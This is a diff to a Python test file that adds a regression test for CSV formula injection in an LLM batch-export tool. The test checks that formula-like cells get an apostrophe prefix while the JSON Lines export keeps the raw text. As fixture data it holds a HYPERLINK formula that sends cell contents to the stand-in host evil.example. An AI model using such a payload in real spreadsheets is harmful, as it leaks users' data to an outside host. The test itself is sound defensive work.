@@ -7,6 +7,7 @@ has the ratelimit-once, fail-if and no-usage scenarios) through the real Runner.
 from __future__ import annotations
 
 import asyncio
+import csv
 import json
 import math
 import time
@@ -735,6 +736,33 @@ async def test_export_csv_and_jsonl(api, connections, tmp_path):
     assert record["usage"]["completion_tokens"] == 2 and record["error"] is None
     assert record["tokens"]["estimated"] is False and record["currency"] == "USD"
     assert record["timings"]["total"] > 0
+
+
+async def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_text(
+    api, connections, tmp_path
+):
+    """A model's (or a relay's) ``=HYPERLINK(…)`` became a live link in the exported CSV:
+    text cells starting like a formula get a leading ' in the CSV, numbers stay numbers,
+    and the JSON Lines keep the exact text."""
+    link = '=HYPERLINK("http://evil.example/?"&A2,"click")'
+    data = parse_data("q,=cmd,answer\n+SUM(1),-5,@A1\n", "csv")
+    spec = BatchSpec(prompt="{{q}}", parameters={"max_tokens": 2, "stream": False},
+                     variants=[CompareTarget("p", "m")], expected_column="answer")  # fmt: skip
+    batch = BatchRun(spec, data)
+    await batch.run(Runner(connections), {"p": profile_for(api, "p", "hostile", text=link)})
+    export_csv(batch, tmp_path / "out.csv")
+    export_jsonl(batch, tmp_path / "out.jsonl")
+    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as f:
+        header, row = list(csv.reader(f))
+    cells = dict(zip(header, row, strict=True))
+    assert "'=cmd" in header
+    assert cells["output"] == "'" + link and cells["prompt"] == "'+SUM(1)"
+    assert cells["q"] == "'+SUM(1)" and cells["answer"] == "'@A1" and cells["expected"] == "'@A1"
+    assert cells["'=cmd"] == "-5"  # a number, not a formula
+    assert not [c for c in row if c.startswith(("=", "+", "@"))]
+    (line,) = (tmp_path / "out.jsonl").read_text(encoding="utf-8").splitlines()
+    record = json.loads(line)
+    assert record["text"] == link and record["values"]["q"] == "+SUM(1)"
 
 
 async def test_a_failing_callback_stops_the_batch_and_leaves_it_resumable(api, connections):
